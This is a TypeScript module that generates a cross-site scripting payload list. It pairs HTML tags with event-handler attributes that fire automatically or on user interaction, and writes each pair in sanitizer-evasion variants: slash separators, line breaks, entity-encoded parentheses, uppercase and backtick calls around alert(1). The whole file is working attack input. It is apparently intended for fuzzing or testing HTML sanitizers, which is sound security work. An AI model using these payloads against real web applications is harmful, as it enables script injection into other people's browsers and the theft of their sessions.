/** What runs by itself or when somebody only looks: a tag that lets it happen, and the name of what happens. */
const BY_ITSELF = `
  audio:oncanplay audio:oncanplaythrough audio:ondurationchange audio:onemptied audio:onloadeddata
  audio:onloadedmetadata audio:onloadstart audio:onprogress audio:onstalled audio:onsuspend audio:onencrypted
  video:onended video:onpause video:onplay video:onplaying video:onratechange video:onresize video:onseeked
  video:onseeking video:ontimeupdate video:onvolumechange video:onwaiting video:onenterpictureinpicture
  body:onafterprint body:onbeforeprint body:onbeforeunload body:onhashchange body:onlanguagechange
  body:onmessage body:onmessageerror body:onoffline body:ononline body:onpagehide body:onpageshow
  body:onpopstate body:onrejectionhandled body:onstorage body:onunhandledrejection body:onunload
  frameset:onload iframe:onload object:onerror embed:onload link:onload style:onload style:onerror
  input:onload img:onload img:onloadend img:onerror image:onerror track:oncuechange track:onload
  source:onerror script:onload script:onerror svg:onload svg:onerror svg:onresize svg:onscroll svg:onunload
  animate:onend animate:onrepeat animatemotion:onbegin animatetransform:onbegin set:onbegin set:onend
  marquee:onbounce marquee:onfinish details:ontoggle dialog:oncancel dialog:onclose dialog:onbeforetoggle
  div:onanimationstart div:onanimationend div:onanimationiteration div:onanimationcancel div:ontransitionrun
  div:ontransitionstart div:ontransitionend div:ontransitioncancel div:onscroll div:onscrollend
  div:onscrollsnapchange div:oncontentvisibilityautostatechange slot:onslotchange canvas:oncontextlost
  canvas:oncontextrestored math:onload portal:onload meter:onload`;

/** What runs as soon as somebody touches it, or a key. */
const BY_A_TOUCH = `
  p:onmouseover p:onmouseenter p:onmousemove p:onmouseout p:onmouseleave p:onmousedown p:onmouseup p:onauxclick
  p:ondblclick p:oncontextmenu p:onwheel p:onmousewheel h2:onpointerdown h2:onpointerenter h2:onpointermove
  h2:onpointerrawupdate h2:onpointercancel h2:ongotpointercapture h2:onlostpointercapture li:ontouchstart
  li:ontouchmove li:ontouchend li:ontouchcancel a:ondrag a:ondragstart a:ondragend a:ondragenter a:ondragover
  a:ondragleave a:ondrop strong:oncopy strong:oncut strong:onpaste strong:onbeforecopy em:onselectstart
  em:onselectionchange blockquote:onkeydown blockquote:onkeypress blockquote:onkeyup img:onclick br:onclick
  input:onbeforeinput input:oninput input:onchange input:oninvalid input:onselect input:onsearch
  input:onfocusin input:onfocusout input:onblur select:onchange textarea:onfocus form:onsubmit form:onreset
  form:onformdata button:oncommand video:onfullscreenchange ul:onbeforematch`;

const pairs = (list: string): (readonly [string, string])[] =>
  list
    .trim()
    .split(/\s+/)
    .map((pair) => {
      const [tag = '', name = ''] = pair.split(':');
      return [tag, name] as const;
    });

/** Each in another way of writing an attribute: bare, quoted, with a slash for a gap, across lines, in large letters. */
const WRITTEN: readonly ((tag: string, name: string) => string)[] = [
  (tag, name) => `<${tag} ${name}=alert(1)>x</${tag}>`,
  (tag, name) => `<${tag} src=x ${name}="alert(1)" autofocus tabindex=0>x</${tag}>`,
  (tag, name) => `<${tag}/${name}='alert(1)'/src=x>x`,
  (tag, name) => `<${tag}\n${name}\n=\n"alert&lpar;1&rpar;"\n>x</${tag}>`,
  (tag, name) => `<${tag.toUpperCase()} ${name.toUpperCase()}=alert\`1\`>x</${tag}>`,
];

/** A handler for everything that a browser tells a tag of. */
export const handlers: readonly string[] = [...pairs(BY_ITSELF), ...pairs(BY_A_TOUCH)].map(
  ([tag, name], n) => WRITTEN[n % WRITTEN.length]?.(tag, name) ?? '',
);
